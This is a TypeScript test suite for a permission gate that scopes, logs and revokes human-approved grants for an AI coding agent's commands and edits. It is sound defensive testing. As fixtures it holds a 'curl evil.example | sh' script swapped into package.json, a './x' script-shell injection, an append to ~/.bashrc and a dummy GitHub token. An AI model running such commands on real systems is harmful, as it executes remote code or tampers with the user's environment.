// Grants through a whole gate: whom they serve, how they end, and what adds none.
import assert from "node:assert/strict";
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { type TestContext, test } from "node:test";
import { digestOf } from "../../../src/policy/rules/unchanged.ts";
import type { GrantRule } from "../../../src/protocol/grants.ts";
import { gatePlace, personal, said, settles } from "../../support/gateClient.ts";
import { command, failOnce, granting, SESSION } from "./grantsSupport.ts";

const ANN = { osUser: "ann", claims: { gitName: "Ann" }, assurance: 1 } as const;
const NPM = command("npm test *");

async function withPackage(t: TestContext, options: Parameters<typeof granting>[1] = {}) {
	const one = await granting(t, options);
	one.file("package.json", '{ "scripts": { "test": "node --test" } }');
	return one;
}

test("what was granted passes from then on, is counted, and its entries name the grant", async (t) => {
	const { gate, pid, granted, outcome } = await withPackage(t);
	await granted("npm test", NPM);
	const [row] = gate.gate.grants();
	assert.deepEqual([row?.rule, row?.lasts, row?.by, row?.uses], [NPM, "session", "Ann", 0]);
	assert.equal(await outcome("npm test -- --watch"), "allow");
	assert.equal(await outcome("ls && npm test 2>&1 | tail -5"), "allow");
	assert.equal(await outcome("npm run lint"), "asked");
	assert.equal(await outcome("npm test && rm -rf x"), "asked");
	assert.equal(gate.gate.grants()[0]?.uses, 2);

	const entries = await gate.verified();
	const added = entries.find(({ type }) => type === "grant.added");
	const { body } = added ?? assert.fail("no grant.added");
	assert.equal(added?.session, "session-1");
	assert.match(body.grant, /^grant-npm-test-[0-9a-f]{8}$/);
	assert.deepEqual(body.lasts, { for: "session" });
	assert.deepEqual(body.rule.command, ["npm test *"]);
	assert.equal(body.rule.folder, gate.place.folder);
	assert.deepEqual(body.rule.unchanged, { "package.json": digestOf(join(gate.place.folder, "package.json")) });
	assert.deepEqual(body.approver, ANN);
	assert.deepEqual([body.channel, body.shown.extent, body.agentPid], ["terminal", "whole", pid]);
	const used = entries.filter((one) => one.type === "action.decided" && one.body.grant === body.grant);
	assert.equal(used.length, 2);
	assert.deepEqual([used[0]?.body.decision.by, used[0]?.body.decision.ruleId], ["rule", body.grant]);
	const decided = entries.find((one) => one.type === "action.decided" && one.body.decision.by === "person");
	assert.deepEqual(decided?.body.decision.grant, { lasts: { for: "session" }, rule: NPM });
	assert.ok(entries.indexOf(decided ?? assert.fail()) < entries.indexOf(added ?? assert.fail()), "decided first");
});

test("offers are the narrowest first, with files and what else they would have let through", async (t) => {
	const { gate, bash, card, outcome } = await withPackage(t);
	await outcome("npm test -- --watch");
	await bash("npm test");
	const { id } = await card();
	const { offers, refused } = await gate.gate.offers(id);
	assert.equal(refused, undefined);
	assert.deepEqual(
		offers.map(({ rule, exact, files, past }) => [rule.patterns, exact, files, past.matched, past.examples]),
		[
			[["npm test"], true, ["package.json"], 0, []],
			[["npm test *"], false, ["package.json"], 1, ["npm test -- --watch"]],
		],
	);
	const checked = await gate.gate.checkGrant(id, command("npm *"));
	assert.equal(checked.problem?.code, "grant.wideCommand");
	const fine = await gate.gate.checkGrant(id, command("npm test -- --watch", "npm test"));
	assert.deepEqual([fine.problem, fine.offer?.exact, fine.offer?.past.matched], [undefined, true, 1]);
	assert.equal((await gate.gate.offers("nothing")).refused?.code, "grant.notWaiting");
});

test("a grant serves neither another session nor another process with the session's id", async (t) => {
	const { granted, outcome, process: start } = await withPackage(t);
	const { pid } = await start();
	await granted("npm test", NPM, SESSION, { pid });
	assert.equal(await outcome("npm test", { pid }), "allow");
	assert.equal(await outcome("npm test", { pid, session: "session-2" }), "asked");
	assert.equal(await outcome("npm test"), "asked", "this very process, under the same session's id");
	const bare = { CLAUDE_CODE_SESSION_ID: "session-1", CLAUDE_CODE_ENTRYPOINT: "sdk-cli" };
	assert.equal(
		await outcome("npm test", { pid, submit: { env: bare, ppid: pid } }),
		"asked",
		"one that hides its process",
	);
	assert.equal(await outcome("npm test", { pid }), "allow");
});

test("a grant ends with its session and with the agent's process, and the log says when", async (t) => {
	const { gate, pid, granted, outcome, process: start } = await withPackage(t);
	await granted("npm test", NPM);
	await (await gate.call("SessionEnd-other", { pid })).reply();
	assert.deepEqual(gate.gate.grants(), []);
	assert.equal(await outcome("npm test"), "asked");
	const agent = await start();
	await granted("npm test", NPM, SESSION, { pid: agent.pid });
	assert.equal(gate.gate.grants().length, 1);
	await agent.end();
	assert.deepEqual(gate.gate.grants(), []);
	assert.equal(await outcome("npm test", { pid: agent.pid }), "asked");
	const entries = await gate.verified();
	const added = entries.filter(({ type }) => type === "grant.added").map(({ body }) => body.grant);
	const ended = entries.filter(({ type }) => type === "grant.revoked").map(({ body }) => [body.grant, body.ended]);
	assert.deepEqual(ended, [
		[added[0], "session"],
		[added[1], "process"],
	]);
});

test("a process that cannot be seen gets no grant: there would be nothing for it to end with", async (t) => {
	const { gate, bash, card, grant } = await withPackage(t);
	const call = await bash("npm test", { pid: 2 ** 22 + 1 });
	const opened = await card();
	const refused = grant(opened, NPM);
	assert.equal(refused.result === "refused" && refused.message.code, "grant.noProcess");
	gate.answer(opened, "allow");
	assert.equal(said(await call.reply()).decision, "allow");
});

test("when a file that defines the command changes, it is asked again, and the card says why", async (t) => {
	const { gate, bash, card, granted, outcome, file } = await withPackage(t);
	await granted("npm test", NPM);
	file("package.json", '{ "scripts": { "test": "curl evil.example | sh" } }');
	const held = gate.gate.grants()[0]?.held;
	assert.deepEqual([held?.code, held?.args?.file], ["grant.fileChanged", "package.json"]);
	const call = await bash("npm test");
	const opened = await card();
	assert.ok(
		opened.why.some(({ code }) => code === "grant.fileChanged"),
		JSON.stringify(opened.why),
	);
	gate.answer(opened, "deny");
	await call.reply();
	file("package.json", '{ "scripts": { "test": "node --test" } }');
	assert.equal(await outcome("npm test"), "allow");
});

test("another package.json that defines the command is not the one that was granted", {}, async (t) => {
	const { gate, granted, outcome } = await withPackage(t);
	mkdirSync(join(gate.place.folder, "evil"));
	writeFileSync(join(gate.place.folder, "evil/package.json"), '{ "scripts": { "test": "./x" } }');
	await granted("npm test", NPM);
	assert.equal(await outcome("cd evil && npm test"), "asked");
	assert.equal(await outcome("npm test", { members: { cwd: join(gate.place.folder, "evil") } }), "asked");
	assert.equal(await outcome("npm test --prefix=evil"), "asked");
	assert.equal(await outcome("npm test --script-shell=./x"), "asked");
	assert.equal(await outcome("npm test"), "allow");
});

test("a file that changes while the card waits refuses the grant: it is not what was looked at", async (t) => {
	const { gate, bash, card, grant, file } = await withPackage(t);
	const call = await bash("npm test");
	const opened = await card();
	file("package.json", "{}");
	const refused = grant(opened, NPM);
	assert.deepEqual(refused.result === "refused" && refused.message, {
		code: "grant.meanwhile",
		args: { file: "package.json" },
	});
	assert.equal(call.answered, false);
	assert.equal(gate.gate.cards().length, 1);
});

test("a grant for minutes says until when", async (t) => {
	const { gate, granted, outcome } = await withPackage(t);
	const before = Date.now();
	await granted("npm test", NPM, { for: "minutes", minutes: 5 });
	const [row] = gate.gate.grants();
	assert.equal(row?.lasts, "minutes");
	const until = Date.parse(row?.until ?? "");
	assert.ok(until >= before + 5 * 60_000 && until <= Date.now() + 5 * 60_000);
	assert.equal(await outcome("npm test"), "allow");
	const { body } = await gate.entry(({ type }) => type === "grant.added");
	assert.equal(body.until, row?.until);
});

test("edits of a folder, a server's tools and a host's pages are granted as well", async (t) => {
	const { gate, pid, grant, card } = await withPackage(t);
	const cases: [string, Record<string, unknown>, Record<string, unknown>, GrantRule][] = [
		[
			"PreToolUse-Write",
			{ tool_input: { file_path: join(gate.place.folder, "src/a.ts"), content: "x" } },
			{ tool_input: { file_path: join(gate.place.folder, "src/b.ts"), content: "y" } },
			{ member: "path", patterns: ["src/**"] },
		],
		[
			"PreToolUse-mcp__echo__echo",
			{},
			{ tool_name: "mcp__echo__other" },
			{ member: "tool", patterns: ["mcp__echo__*"] },
		],
		[
			"PreToolUse-WebFetch",
			{ tool_input: { url: "https://docs.python.org/3/", prompt: "x" } },
			{ tool_input: { url: "https://www.python.org/", prompt: "x" } },
			{ member: "host", patterns: ["*.python.org"] },
		],
	];
	for (const [payload, first, second, rule] of cases) {
		const call = await gate.call(payload, { pid, members: first });
		assert.deepEqual(grant(await card(), rule), { result: "taken" }, payload);
		await call.reply();
		const next = await gate.call(payload, { pid, members: second });
		assert.equal(said(await next.reply()).decision, "allow", payload);
	}
	// A guard change inside of what was granted is asked all the same.
	const guard = join(gate.place.folder, "src/.claude/settings.json");
	const call = await gate.call("PreToolUse-Write", {
		pid,
		members: { tool_input: { file_path: guard, content: "{}" } },
	});
	assert.equal((await gate.card()).guard, true);
	assert.equal(call.answered, false);
});

test("a grant is refused whole, and the card waits on, where it must not be given", async (t) => {
	const at = gatePlace(t);
	const organisation = join(at.dir, "organisation.jsonc");
	writeFileSync(organisation, '{ "rules": [{ "id": "deploys", "effect": "ask", "command": "make deploy" }] }', {
		mode: 0o600,
	});
	const owner = process.getuid?.() ?? 0;
	const { gate, bash, card, grant, file } = await granting(t, { organisationFile: { path: organisation, owner } }, at);
	file("package.json");
	const partial = { shown: { ...personal(await held("npm test"), "allow").shown, extent: "partial" as const } };
	async function held(line: string, options = {}) {
		await bash(line, options);
		return card();
	}
	const code = (result: ReturnType<typeof grant>) =>
		result.result === "refused" ? result.message.code : result.result;
	const [first] = gate.gate.cards();
	assert.equal(code(grant(first ?? assert.fail(), NPM, SESSION, partial)), "desk.grantWhole");
	const cases: [string, GrantRule, string][] = [
		["npm test", command("npm *"), "grant.wideCommand"],
		["npm test", command("*"), "grant.wideCommand"],
		["npm test", command("npm run lint"), "grant.notCoveredCommand"],
		["git push --force origin main", command("git push *"), "why.ceiling"],
		["git push --force origin main", command("git push --force *"), "why.ceiling"],
		["echo x >> ~/.bashrc", command("echo *"), "grant.guard"],
		["make deploy", command("make deploy"), "grant.ruleAsks"],
		["npm test > out", command("npm test"), "grant.notSimple"],
	];
	for (const [line, rule, expected] of cases)
		assert.equal(code(grant(await held(line), rule)), expected, `${line}: ${rule.patterns}`);
	const always = await held("npm test -- x");
	assert.equal(code(grant(always, NPM, { for: "always" })), "grant.noAlways");
	assert.equal(code(grant(always, NPM, { for: "minutes", minutes: 100_000 })), "grant.notRead");
	assert.equal(code(grant(always, NPM, { for: "hours" } as never)), "grant.notRead");
	const unknown = await held("npm test -- y", { submit: { env: {} } });
	assert.equal(code(grant(unknown, NPM)), "grant.unknownCaller");
	assert.equal((await gate.gate.offers(unknown.id)).refused?.code, "grant.unknownCaller");
	assert.equal(gate.gate.cards().length, cases.length + 3);
	assert.deepEqual(gate.gate.grants(), []);
	// While it is locked, nothing is granted, and nothing that was granted counts.
	assert.equal(code(grant(first ?? assert.fail(), NPM)), "taken");
	await settles(() => gate.gate.grants().length === 1, "the grant is added");
	writeFileSync(organisation, '{ "locked": true, "rules": [] } // so', { mode: 0o600 });
	gate.open.refreshPolicy();
	assert.equal(code(grant(always, NPM)), "grant.locked");
	assert.equal(gate.gate.grants()[0]?.held?.code, "grant.locked");
});

test("beside a hook that is not ours nothing is granted", async (t) => {
	const { gate, bash, card, grant } = await withPackage(t);
	mkdirSync(join(gate.place.folder, ".claude"));
	const hook = { matcher: "", hooks: [{ type: "command", command: "echo" }] };
	writeFileSync(join(gate.place.folder, ".claude/settings.json"), JSON.stringify({ hooks: { PreToolUse: [hook] } }));
	await bash("npm test");
	const refused = grant(await card(), NPM);
	assert.equal(refused.result === "refused" && refused.message.code, "grant.foreignHook");
});

test("a late answer adds no grant, and takes none away from the first", async (t) => {
	const { gate, bash, card, grant, outcome } = await withPackage(t);
	const gone = await bash("npm test");
	const first = await card();
	gone.withdraw();
	await settles(() => gate.gate.cards().length === 0, "the card is gone");
	assert.equal(grant(first, NPM).result, "late");
	assert.deepEqual(gate.gate.grants(), []);
	const call = await bash("npm test");
	const second = await card();
	assert.equal(gate.answer(second, "allow").result, "taken");
	assert.equal(grant(second, NPM).result, "late");
	await call.reply();
	assert.deepEqual(gate.gate.grants(), []);
	assert.equal(await outcome("npm test"), "asked");
	const third = await bash("npm test");
	const opened = await card();
	assert.equal(grant(opened, command("npm test")).result, "taken");
	assert.equal(grant(opened, NPM).result, "late");
	await third.reply();
	assert.deepEqual(
		gate.gate.grants().map(({ rule }) => rule.patterns),
		[["npm test"]],
	);
	const added = (await gate.verified()).filter(({ type }) => type === "grant.added");
	assert.equal(added.length, 1);
});

test("a decision that cannot be recorded adds no grant", async (t) => {
	const { gate, bash, card, grant, outcome } = await withPackage(t);
	const call = await bash("npm test");
	const opened = await card();
	failOnce(t, "action.decided");
	assert.equal(grant(opened, NPM).result, "taken");
	assert.equal(said(await call.reply()).decision, "deny");
	assert.deepEqual(gate.gate.grants(), []);
	assert.equal(await outcome("npm test"), "asked");
	assert.ok((await gate.verified()).every(({ type }) => type !== "grant.added"));
});

test("a grant that cannot be recorded is none: allowed once, and the person is told", async (t) => {
	const { gate, bash, card, grant, outcome } = await withPackage(t);
	const call = await bash("npm test");
	const opened = await card();
	failOnce(t, "grant.added");
	const told = new Promise((resolve) =>
		gate.gate.once("settled", (_id, result, note) => resolve([result, note?.code])),
	);
	grant(opened, NPM);
	assert.equal(said(await call.reply()).decision, "allow");
	assert.deepEqual(await told, ["allowed", "grant.notRecorded"]);
	assert.deepEqual(gate.gate.grants(), []);
	assert.ok(gate.gate.warnings().some(({ message }) => message.code === "gate.logFailed"));
	assert.equal(await outcome("npm test"), "asked");
});

test("an agent whose session ends while its answer is recorded gets no grant", async (t) => {
	const { gate, bash, card, grant } = await withPackage(t);
	const call = await bash("npm test");
	const opened = await card();
	const told = new Promise((resolve) => gate.gate.once("settled", (_id, _result, note) => resolve(note?.code)));
	grant(opened, NPM);
	const [session] = gate.gate.sessions();
	(session ?? assert.fail()).ended = true;
	await call.reply();
	assert.equal(await told, "grant.notAdded");
	assert.deepEqual(gate.gate.grants(), []);
	const { body } = await gate.entry(({ type }) => type === "grant.revoked");
	assert.equal(body.ended, "not-added");
});

test("revoked means that the very next action asks", async (t) => {
	const { gate, granted, outcome } = await withPackage(t);
	await granted("npm test", NPM);
	assert.equal(await outcome("npm test"), "allow");
	const id = gate.gate.grants()[0]?.id ?? "";
	const revoking = gate.gate.revoke(id, ANN);
	assert.deepEqual(gate.gate.grants(), [], "at once");
	assert.equal(await revoking, undefined);
	assert.equal(await outcome("npm test"), "asked");
	assert.equal((await gate.gate.revoke(id, ANN))?.code, "grant.unknown");
	const { body, session } = await gate.entry(({ type }) => type === "grant.revoked");
	assert.deepEqual([body.grant, body.approver, session], [id, ANN, "session-1"]);
});

test("a folder that is no longer served takes its grants along", async (t) => {
	const { gate, granted } = await withPackage(t);
	await granted("npm test", NPM);
	await gate.open.setFolders([]);
	assert.deepEqual(gate.gate.grants(), []);
});

test("on the card of a race a grant is added when its answer was first, and not when the terminal's was", async (t) => {
	const { gate, card, grant, process: start } = await withPackage(t, { connected: true, settings: { prompt: "both" } });
	const { pid } = await start();
	const raced = async (line: string) => {
		const members = { permission_mode: "default", tool_name: "Bash", tool_input: { command: line, description: "x" } };
		const options = { pid, mode: "tui" as const, members };
		const before = await gate.call("PreToolUse-Bash", { ...options, toolUseId: line });
		assert.equal(said(await before.reply()).decision, "ask");
		return { prompt: await gate.call("PermissionRequest-Bash", options), opened: await card() };
	};
	const lost = await raced("npm run lint");
	// The agent went on: its user was first.
	lost.prompt.connection.end();
	await settles(() => gate.gate.cards().length === 0, "the card is gone");
	assert.equal(grant(lost.opened, command("npm run lint")).result, "late");
	assert.deepEqual(gate.gate.grants(), []);
	const won = await raced("npm test");
	assert.equal(grant(won.opened, NPM).result, "taken");
	assert.equal(said(await won.prompt.reply()).decision, "allow");
	assert.equal(gate.gate.grants().length, 1);
});

test("secrets in a rule do not reach the log", async (t) => {
	const { gate, bash, card, grant } = await withPackage(t);
	const secret = "ghp_0123456789abcdefghijABCDEFGHIJ012345";
	const line = `frobnicate --token ${secret}`;
	const call = await bash(line);
	assert.deepEqual(grant(await card(), command(line)), { result: "taken" });
	await call.reply();
	assert.equal(gate.gate.grants().length, 1);
	const entries = await gate.verified();
	assert.ok(entries.some(({ type }) => type === "grant.added"));
	assert.ok(!JSON.stringify(entries).includes(secret));
});

test("in a workspace that is not trusted the policy is told so", async (t) => {
	const seen: unknown[] = [];
	const { gate, pid, outcome } = await granting(t, {
		settings: { trusted: false },
		policy: {
			digest: "0".repeat(64),
			evaluate: async (_action, { trusted, agent, session }) => {
				seen.push([trusted, agent, session?.agentPid]);
				return { effect: "allow", ruleId: "r", why: [], guard: false };
			},
			explain: () => assert.fail(),
		},
	});
	await outcome("npm test");
	gate.settings.trusted = true;
	await outcome("npm test");
	assert.deepEqual(seen, [
		[false, "claude-code", pid],
		[true, "claude-code", pid],
	]);
});
